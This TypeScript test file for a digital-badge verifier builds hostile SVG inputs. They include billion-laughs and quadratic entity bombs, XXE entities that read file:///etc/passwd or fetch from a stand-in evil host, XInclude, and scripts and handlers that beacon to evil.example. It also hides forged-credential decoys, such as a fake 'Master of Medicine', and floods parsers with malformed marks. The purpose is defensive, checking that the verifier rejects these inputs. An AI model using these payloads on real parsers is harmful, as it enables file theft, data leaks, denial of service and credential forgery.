/** SVG pictures that expand, that reach out, and that hide a badge where none is. */

import { bakeSvg } from '../../../verifier/src/bake.ts'
import { svg, SVG_HEAD } from '../../../verifier/test/container/pictures.ts'
import { attack, control, strange, type HostileRow } from '../case.ts'
import { badge, EVIL, forger, makeCredential, school, signIntegrity, signToken } from '../made/forge.ts'

const heading = 'containers'
const carrier = (token: string) => `<ob3:credential verify="${token}"/>`

const expansion: HostileRow = {
  heading,
  name: 'SVGs that expand or reach out',
  cases: async () => {
    const ours = carrier(await signToken(school, badge))
    const lol = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
    const doctype = (inner: string, inside = ours) => svg(inside, `<!DOCTYPE svg ${inner}>`)
    const unasked = { unasked: [`${EVIL}/x`, `${EVIL}/x.dtd`] }
    const forbidden = (name: string, text: string) => attack('svg-forbidden', name, text, unasked)
    return [
      forbidden('a billion laughs', doctype(`[<!ENTITY l0 "lol">${lol}]`, `<text>&l9;</text>${ours}`)),
      forbidden('quadratic blow-up', doctype(`[<!ENTITY a "${'a'.repeat(50_000)}">]`, `<text>${'&a;'.repeat(20_000)}</text>${ours}`)),
      forbidden('an external entity', doctype(`[<!ENTITY x SYSTEM "${EVIL}/x">]`, `<text>&x;</text>${ours}`)),
      forbidden('a file of the machine', doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', `<ob3:credential>&x;</ob3:credential>`)),
      forbidden('parameter entities', doctype(`[<!ENTITY % p SYSTEM "${EVIL}/x.dtd"> %p;]`)),
      forbidden('a badge that an entity holds', doctype(`[<!ENTITY b "${await signToken(school, badge)}">]`, '<ob3:credential verify="&b;"/>')),
      forbidden('an internal subset that is empty', doctype('[]')),
      attack('image-damaged', 'an entity that nobody declared', svg('<ob3:credential verify="&badge;"/>')),
      attack('image-damaged', 'an entity of the prototype', svg('<ob3:credential verify="&constructor;"/>')),
      attack('no-badge', 'XInclude', svg(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${EVIL}/x"/>`), unasked),
      control('a document type that names a DTD, which is not fetched', doctype(`PUBLIC "-//W3C//DTD SVG 1.1//EN" "${EVIL}/x.dtd"`), unasked),
      control('no document type', svg(ours)),
    ]
  },
}

const decoys: HostileRow = {
  heading,
  name: 'SVGs with decoys',
  cases: async () => {
    const ours = await signToken(school, badge)
    const theirs = await signToken(forger, makeCredential(forger.did, { name: 'Master of Medicine' }))
    const decoy = carrier(theirs)
    const quoted = decoy.replaceAll('"', '&quot;').replaceAll('<', '&lt;')
    const hidden: Readonly<Record<string, string>> = {
      'in a comment': `<!--${decoy}-->`,
      'in CDATA': `<text><![CDATA[${decoy}]]></text>`,
      'in an attribute': `<text title="${quoted}"/>`,
      'in a processing instruction': `<?badge ${decoy.replaceAll('?>', '')}?>`,
      'in another namespace': `<x:credential xmlns:x="https://purl.imsglobal.org/ob/v4" verify="${theirs}"/>`,
      'without a namespace': `<credential xmlns="" verify="${theirs}"/>`,
      'under a prefix alone': `<openbadges:credential xmlns:openbadges="urn:x" verify="${theirs}"/>`,
      'as text': `<text>${quoted}</text>`,
      'in other letters': `<ob3:Credential verify="${theirs}"/>`,
    }
    const printed = { printed: { lacks: ['Medicine'] } }
    return [
      ...Object.entries(hidden).map(([name, inside]) => attack('no-badge', `a decoy ${name}, and no badge`, svg(inside))),
      ...Object.entries(hidden).map(([name, inside]) => control(`a decoy ${name}, before the badge`, svg(inside + carrier(ours)), printed)),
      attack('image-conflict', 'two badges', svg(carrier(ours) + decoy), printed),
      attack('image-conflict', 'a second one in a nested picture', svg(`${carrier(ours)}<svg>${decoy}</svg>`), printed),
      attack('image-conflict', 'a second one of 2.0', svg(`${carrier(ours)}<ob2:assertion verify="${theirs}"/>`), printed),
      attack('image-conflict', 'an attribute and a body that differ', svg(`<ob3:credential verify="${ours}">${theirs}</ob3:credential>`), printed),
      attack('image-damaged', 'an attribute twice', svg(`<ob3:credential verify="${ours}" verify="${theirs}"/>`), printed),
      attack('image-damaged', 'not closed', svg(carrier(ours)).replace('</svg>', '')),
      attack('image-damaged', 'something behind the end', `${svg(carrier(ours))}<svg/>`),
      attack('unknown-file', 'other XML', '<x xmlns="urn:x"/>'),
      attack('unknown-file', 'a picture in HTML', `<html>${svg(carrier(ours))}</html>`),
      control('the same one twice', svg(carrier(ours) + carrier(ours))),
      control('a document', svg(`<ob3:credential><![CDATA[${JSON.stringify(await signIntegrity(school, badge))}]]></ob3:credential>`)),
    ]
  },
}

const floods: HostileRow = {
  heading,
  name: 'floods of marks',
  cases: async () => {
    const ours = carrier(await signToken(school, badge))
    const flood = (mark: string, times = 1_000_000) => svg(ours).replace('<rect', `${mark.repeat(Math.floor(times / mark.length))}<rect`)
    return [
      ...['<', '<!--', '<![CDATA[', '&', '<a ', '<a b="', '</', '<?', '<!', '<!DOCTYPE ', ']]>', '<a>'].map((mark) =>
        attack(['image-damaged', 'svg-forbidden', 'file-too-large'], `a million characters of ${mark}`, flood(mark)),
      ),
      attack('image-damaged', '100,000 elements in each other', svg(`${'<g>'.repeat(100_000)}${'</g>'.repeat(100_000)}${ours}`)),
      attack('file-too-large', '5 MiB of spaces', svg(ours + ' '.repeat(5 * 2 ** 20))),
      control('a million spaces', flood(' ')),
      control('100,000 elements beside each other', flood('<g/>', 400_000)),
      control('a hundred thousand attributes', svg(ours).replace('<rect', `<rect ${Array.from({ length: 20_000 }, (_, n) => `a${n}="1"`).join(' ')}`)),
    ]
  },
}

/** They are shown as `<img>` alone (the components' own tests); here: they are read, and nobody is asked. */
const active: HostileRow = {
  heading,
  name: 'SVGs that would do something',
  cases: async () => {
    const token = await signToken(school, badge)
    const beacon = { unasked: [`${EVIL}/beacon`] }
    const inside: Readonly<Record<string, string>> = {
      'a script': '<script>fetch("https://evil.example/beacon")</script>',
      'a handler': '<rect onload="fetch(`https://evil.example/beacon`)"/>',
      'a foreign object': `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/beacon"/></foreignObject>`,
      'an animated link': '<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>',
      'use of data:': '<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot;/>#x"/>',
      'a beacon': `<image href="${EVIL}/beacon"/>`,
      'a style that imports': `<style>@import url(${EVIL}/beacon)</style>`,
      'a bomb of filters': `<filter id="f">${'<feGaussianBlur stdDeviation="999"/>'.repeat(500)}</filter><rect filter="url(#f)"/>`,
    }
    return [
      ...Object.entries(inside).map(([name, more]) => strange(name, svg(carrier(token) + more), beacon)),
      attack('no-badge', 'a script and no badge', svg('<script>alert(1)</script>'), beacon),
      control('baked by us', await bakeSvg(`${SVG_HEAD}<rect/></svg>`, token, '3.0'), beacon),
    ]
  },
}

export const vectors: readonly HostileRow[] = [expansion, decoys, floods, active]
